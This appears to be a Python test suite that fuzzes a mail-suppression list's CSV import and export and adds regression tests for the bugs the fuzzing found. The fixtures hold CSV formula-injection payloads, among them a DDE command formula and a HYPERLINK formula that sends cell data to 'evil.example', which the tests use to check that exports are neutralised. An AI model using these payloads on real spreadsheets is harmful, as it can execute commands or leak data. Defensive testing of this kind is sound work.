"""Fuzzing the suppression list's CSV import (``mailstrom suppress import``): whatever the
octets hold, ``read_limited`` and ``parse_csv`` return entries or raise
:class:`~mailstrom.errors.InvalidSuppression` (naming the line, once the text is read),
never another exception; every entry they return is one the store keeps and gives back
as it was, and that an export imports again unchanged.

Files are built from valid seeds (a header or none, each column, times with zones,
quoted fields, comments) and mutated: BOMs, NUL and control characters, stray quotes,
extra columns, CR-only or mixed line ends, long fields, text in Latin-1 or UTF-16.

``MAILSTROM_FUZZ_EXAMPLES`` sets how many examples to run (200 by default), for a longer
run: ``MAILSTROM_FUZZ_EXAMPLES=5000 pytest --timeout=0 tests/unit/test_suppression_csv_fuzz.py``.
"""

from __future__ import annotations

import csv
import io
import os
import tempfile
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from mailstrom.client.common import suppression_entry
from mailstrom.errors import InvalidSuppression
from mailstrom.safetext import is_safe
from mailstrom.smtp.replies import ReplyParser
from mailstrom.stores import open_store
from mailstrom.stores.base import Store
from mailstrom.suppression import (
    MAX_REPLY,
    Suppression,
    SuppressionSource,
    check_reply,
    normalize_target,
)
from mailstrom.suppression_csv import COLUMNS, parse_csv, read_limited, write_csv

EXAMPLES = int(os.environ.get("MAILSTROM_FUZZ_EXAMPLES", "200"))
NOW = datetime(2026, 11, 30, 9, 0, tzinfo=UTC)

TARGETS = [
    "bob@example.org",
    "Bob@Example.ORG",
    " <carol@example.org> ",
    "example.net",
    "ñoño@bücher.example",
    "xn--bcher-kva.example",
    "a+tag@sub.example.org",
    "x" * 64 + "@" + "d" * 200 + ".example",
    "",
    "@example.org",
    "bob@",
    "a@b@c",
    "bob@example..org",
    "bob@.example.org",
    '"quoted"@example.org',
    "bob smith@example.org",
    "target",
    "#comment@example.org",
    "=cmd|'/ccalc'!a0@example.org",
    "'-bob@example.org",
    "bob@exa\u202emple.org",
    "bob@exa\x85mple.org",
    "bob@exa\x9bmple.org",
    "bob@exa\u200bmple.org",
    "bob@exa\u2028mple.org",
]
SOURCES = ["", "manual", "hard_bounce", "async_bounce", "complaint", "MANUAL", "spam", "x\0"]
REPLIES = [
    "",
    "550 5.1.1 no such user",
    "550-5.1.1 first\n550 5.1.1 second",
    "asked to stop, twice",
    'said "stop"',
    "tab\there",
    "esc\x1b[2J",
    "nul\0",
    "bidi\u202eevil",
    "cr\rline",
    "r" * 2048,
    '=HYPERLINK("http://evil.example/","click")',
    "'@SUM(1+1)",
    "\t-tab first",
    "r" * 2049,
    "é" * 1000,
]
TIMES = [
    "",
    "2026-11-30T09:00:00+00:00",
    "2026-11-30T09:00:00Z",
    "2026-11-30T09:00:00.123456+05:30",
    "2026-11-30 09:00:00+00:00",
    "2026-11-30T09:00:00",
    "2026-11-30",
    "0001-01-01T00:00:00+00:00",
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59+00:00",
    "9999-12-31T23:59:59-05:00",
    "2026-02-30T00:00:00Z",
    "yesterday",
    "2026-11-30T09:00:00+24:00",
    "1970-01-01T00:00:00Z",
]
MESSAGE_IDS = ["", "0190f3a2c4e1b7d08a4f2c6e9b1d3f57", "<m@example.org>", "m" * 129, "a\tb", "a\0"]
HOSTILE = [
    "\0",
    "'",
    "=",
    "-",
    '"',
    "\r",
    "\n",
    ",",
    "\ufeff",
    "\x1b",
    "\u202e",
    "\x85",
    "\\",
    "#",
    " ",
]


def mostly(seeds: list[str], valid: int) -> st.SearchStrategy[str]:
    """One of the first ``valid`` seeds (the valid ones) nine times in ten, else any."""
    return st.integers(0, 9).flatmap(
        lambda roll: st.sampled_from(seeds if roll == 0 else seeds[:valid])
    )


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


@st.composite
def rows(draw: Any) -> list[str]:
    """One row's cells (as the columns name them, some left out)."""
    cells = [
        draw(mostly(TARGETS, 7)),
        draw(mostly(SOURCES, 5)),
        draw(mostly(REPLIES, 6)),
        draw(mostly(TIMES, 5)),
        draw(mostly(TIMES, 5)),
        draw(mostly(MESSAGE_IDS, 3)),
    ]
    width = draw(st.sampled_from([1, 1, 2, 3, 4, 5, 6, 6, 6, 6, 6, 6, 7]))
    return [*cells, "extra"][:width]


@st.composite
def csv_files(draw: Any) -> bytes:
    lines: list[str] = []
    if draw(st.booleans()):
        header = list(COLUMNS)
        if draw(st.integers(0, 4)) == 0:
            header = draw(st.permutations(header))[: draw(st.integers(1, 6))]
        if draw(st.integers(0, 9)) == 0:
            header.append(draw(st.sampled_from(["target", "reason", "TARGET", ""])))
        lines.append(",".join(header))
    for cells in draw(st.lists(rows(), max_size=8)):
        if draw(st.integers(0, 9)) == 0:
            lines.append(draw(st.sampled_from(["", "# a comment", " ", ",,,"])))
        rendered = [quoted(c) if draw(st.integers(0, 3)) == 0 else c for c in cells]
        lines.append(",".join(rendered))
    for _ in range(draw(st.sampled_from([0, 0, 0, 0, 0, 1, 2]))):  # hostile characters anywhere
        if not lines:
            break
        at = draw(st.integers(0, len(lines) - 1))
        cut = draw(st.integers(0, len(lines[at])))
        lines[at] = lines[at][:cut] + draw(st.sampled_from(HOSTILE)) + lines[at][cut:]
    ending = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    text = ending.join(lines) + draw(st.sampled_from(["", ending]))
    encoding = draw(st.sampled_from(["utf-8"] * 6 + ["utf-8-sig", "latin-1", "utf-16"]))
    raw = text.encode(encoding, "replace")
    if draw(st.integers(0, 19)) == 0:
        raw = raw[: draw(st.integers(0, len(raw)))]
    return raw


# --- the property ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def store() -> Iterator[Store]:
    with tempfile.TemporaryDirectory() as tmp:
        opened = open_store(f"sqlite:///{tmp}/queue.db")
        try:
            yield opened
        finally:
            opened.close()


def check_refusal(exc: InvalidSuppression, *, read: bool) -> None:
    """Text that could not be read is refused as a whole; a row, naming its line."""
    if not read:
        assert exc.line is None
        return
    assert exc.line is not None and exc.line >= 1, exc
    assert str(exc).startswith(f"line {exc.line}: ")


def check_entry(entry: Suppression) -> None:
    """What every imported entry must be: a normal target without unsafe characters, a
    checked reply and message id, times in UTC that the stores can read back."""
    assert normalize_target(entry.target) == entry.target
    assert is_safe(entry.target), f"unsafe target {entry.target!r}"
    assert check_reply(entry.reply) == entry.reply
    assert entry.message_id is None or entry.message_id.isprintable()
    for when in (entry.created_at, entry.expires_at):
        assert when is None or when.utcoffset() is not None
        assert when is None or when.astimezone(UTC) == when


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
)
@given(raw=csv_files())
def test_an_import_is_entries_or_a_typed_error_naming_the_line(store: Store, raw: bytes) -> None:
    try:
        text = read_limited(io.BytesIO(raw))
    except InvalidSuppression as exc:
        event("not read")
        check_refusal(exc, read=False)
        return
    try:
        entries = parse_csv(text, now=NOW)
    except InvalidSuppression as exc:
        event("refused")
        check_refusal(exc, read=True)
        return
    event(f"{len(entries)} entries")
    for entry in entries:
        check_entry(entry)
    # An export of what was imported imports again as it was.
    exported = io.StringIO()
    write_csv(entries, exported)
    assert parse_csv(exported.getvalue(), now=NOW) == entries
    # The store keeps each and gives it back (the last of a target wins, as in the file).
    store.unsuppress([e.target for e in entries])
    store.suppress(entries)
    last = {e.target: e for e in entries}
    kept = store.list_suppressions(now=None, after="", limit=len(last) + 1)
    assert {e.target: e for e in kept} == last
    store.unsuppress(list(last))


# --- what the fuzzing found ------------------------------------------------------------


@pytest.mark.parametrize(
    "row",
    [
        "bob@example.org,,,0001-01-01T00:00:00+01:00",
        "bob@example.org,,,,9999-12-31T23:59:59-05:00",
    ],
)
def test_a_time_past_the_range_of_utc_is_refused_with_its_line(row: str) -> None:
    # Was: imported, after which every read of the entry (the worker's lookup of that
    # address, `suppress list`) raised OverflowError: the time is out of range in UTC.
    with pytest.raises(InvalidSuppression, match="out of range") as info:
        parse_csv(f"example.net\n{row}\n", now=NOW)
    assert info.value.line == 2


@pytest.mark.parametrize(
    "row",
    [
        "bob@example.org,,,,9999-12-31T23:59:59+00:00",  # another system's "never"
        "bob@example.org,,,9000-01-01T00:00:00Z",
        "bob@example.org,,,1899-12-31T23:59:59Z",
    ],
)
def test_a_time_a_store_cannot_give_back_is_refused_with_its_line(row: str) -> None:
    # Was: imported; the SQLite store then read the entry back as unreadable, its time
    # lost (the memory store kept it): the stores disagreed about the same entry.
    with pytest.raises(InvalidSuppression, match="outside the times kept") as info:
        parse_csv(f"example.net\n{row}\n", now=NOW)
    assert info.value.line == 2


def test_a_suppression_expiring_after_the_times_kept_is_refused() -> None:
    never = datetime(9999, 12, 31, tzinfo=UTC)
    with pytest.raises(InvalidSuppression, match="outside the times kept"):
        suppression_entry(
            "bob@example.org", "", source=SuppressionSource.MANUAL, expires_at=never, now=NOW
        )


def test_times_are_kept_in_utc() -> None:
    [entry] = parse_csv("bob@example.org,,,2026-11-30T09:00:00+05:30\n", now=NOW)
    assert entry.created_at == datetime(2026, 11, 30, 3, 30, tzinfo=UTC)
    assert entry.created_at.utcoffset() is not None and not entry.created_at.utcoffset()
    assert entry.reason == "suppressed since 2026-11-30T03:30:00Z"


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\x9b", "\x80"])
def test_a_target_with_a_c1_control_or_bidi_override_is_refused(char: str) -> None:
    # Was: stored, like any address: the C1 controls and the bidirectional overrides the
    # reply column refuses (safetext) were let through in the target.
    with pytest.raises(InvalidSuppression, match="not an address or a domain") as info:
        parse_csv(f"example.net\nbob@exa{char}mple.org\n", now=NOW)
    assert info.value.line == 2


FORMULAS = [
    ("=cmd|'/ccalc'!a0@example.org", "", ""),  # a valid address, DDE to Excel
    ("+1@example.org", "-2+3", "@SUM(1)"),
    ("-x@example.org", '=HYPERLINK("http://evil.example/?"&A2,"click")', "=m@example.org"),
    ("bob@example.org", "\t=a tab first", ""),
    ("bob@example.org", "'=quoted already", ""),
    ("bob@example.org", "''+twice", ""),
    ("bob@example.org", "'plain, a quote", ""),
    ("'bob@example.org", "'", "'"),
]


@pytest.mark.parametrize(("target", "reply", "message_id"), FORMULAS)
def test_an_export_holds_no_formula_and_imports_as_it_was(
    target: str, reply: str, message_id: str
) -> None:
    """A target, reply or message id starting with = + - @ TAB or CR was exported as it
    was: a spreadsheet opening the file ran it as a formula (CSV injection). The cell is
    written after a ' now, and an import takes that ' off again."""
    entry = Suppression(
        target=normalize_target(target),
        source=SuppressionSource.MANUAL,
        reply=check_reply(reply),
        created_at=NOW,
        expires_at=None,
        message_id=message_id or None,
    )
    exported = io.StringIO()
    write_csv([entry], exported)
    for row in csv.reader(io.StringIO(exported.getvalue())):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    if not reply.lstrip("'").startswith(("=", "+", "-", "@", "\t")):
        assert reply in exported.getvalue()  # nothing added where no formula is
    assert parse_csv(exported.getvalue(), now=NOW) == [entry]


@pytest.mark.parametrize("cell", ["a", "", "ab", "target"])
def test_a_row_of_a_million_cells_is_refused_before_the_csv_module_lists_them(
    cell: str,
) -> None:
    """The csv module makes a list of a row's cells before the row can be refused for
    having more than six, and every cell was then stripped and lower-cased: a 64 MiB row
    "ab,ab,ab,..." took 3.5 GB. A line longer than any row of the largest fields is
    refused as it is read."""
    text = "bob@example.org\n" + (cell + ",") * 1_000_000 + "x\n"
    tracemalloc.start()
    try:
        with pytest.raises(InvalidSuppression) as info:
            parse_csv(text, now=NOW)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # The text as the StringIO holds it (4 octets a character) and the line read from it;
    # the list of a million cells alone is 8 MB, and each cell's copy 50 octets more.
    assert peak < 5 * len(text) + 1_000_000, peak
    assert info.value.line == 2
    assert "a line longer than" in str(info.value)


def test_the_longest_rows_are_read() -> None:
    reply = '"' * MAX_REPLY
    entry = Suppression(
        target="x" * 64 + "@" + "d" * 180 + ".example",
        source=SuppressionSource.MANUAL,
        reply=reply,
        created_at=NOW,
        expires_at=NOW,
        message_id="m" * 128,
    )
    exported = io.StringIO()
    write_csv([entry], exported)
    assert parse_csv(exported.getvalue(), now=NOW) == [entry]


def test_a_blank_row_of_many_commas_is_skipped_and_one_with_a_late_cell_refused() -> None:
    assert parse_csv("," * 100 + "\nbob@example.org\n", now=NOW)[0].target == "bob@example.org"
    with pytest.raises(InvalidSuppression, match="101 columns") as info:
        parse_csv("bob@example.org\n" + "," * 100 + "x\n", now=NOW)
    assert info.value.line == 2


def _reply(raw: bytes) -> str:
    parser = ReplyParser()
    parser.feed(raw)
    reply = parser.next_reply()
    assert reply is not None
    return str(reply)


# What the worker keeps as a hard bounce's reply (str of the parsed reply): a server's
# text as it came, white space at its end included, and an operator's note.
SPACED = [
    _reply(b"550 5.1.1 user unknown \r\n"),
    _reply(b"550 5.1.1 user unknown\t\r\n"),
    _reply(b"550-5.1.1 user unknown\r\n550 5.1.1\r\n"),
    "  indented note",
    "\nstarts with a line break",
    "' a quote, then a space",
    "'trailing space after a quote ",
    " ",
]


@pytest.mark.parametrize("reply", SPACED)
def test_a_reply_with_white_space_at_an_end_imports_as_it_was_exported(
    store: Store, reply: str
) -> None:
    """Every cell was stripped on import: the reply the worker kept for a server's
    "550 5.1.1 user unknown " (or a multi-line reply whose last line has no text) came
    back without its last character, and an export imported into a new store was not
    the list it was taken from. Such a cell is written after a ' now, as a formula is."""
    target = f"spaced{SPACED.index(reply)}@example.org"
    entry = Suppression(
        target=target,
        source=SuppressionSource.HARD_BOUNCE,
        reply=check_reply(reply),
        created_at=NOW,
        message_id="0190f3a2c4e1b7d08a4f2c6e9b1d3f57",
    )
    store.suppress([entry])
    kept = [e for e in store.list_suppressions(after="spaced") if e.target == target]
    assert kept == [entry]
    exported = io.StringIO()
    write_csv(kept, exported)
    assert parse_csv(exported.getvalue(), now=NOW) == kept


def test_a_target_starting_with_a_quote_is_kept_whatever_white_space_follows() -> None:
    """``'bob@example.org`` is an address (``'`` is atext) of its own: a line of a file
    written by hand with a space after it is that address, not ``bob@example.org``."""
    entries = parse_csv("'bob@example.org \n'carol@example.org\t,manual, note \n", now=NOW)
    assert [e.target for e in entries] == ["'bob@example.org", "'carol@example.org"]
    assert entries[1].reply == "note"


def test_a_hand_written_reply_after_a_space_loses_its_formula_quote() -> None:
    """Free text keeps its white space only behind the ``'`` an export puts first (an
    export writes no cell that starts with white space otherwise): a file written by
    hand with spaces after its commas, ``bob@example.org, manual, '=x``, has the reply
    ``=x``, as before, not ``'=x``."""
    [entry] = parse_csv("bob@example.org, manual, '=x \n", now=NOW)
    assert entry.reply == "=x"
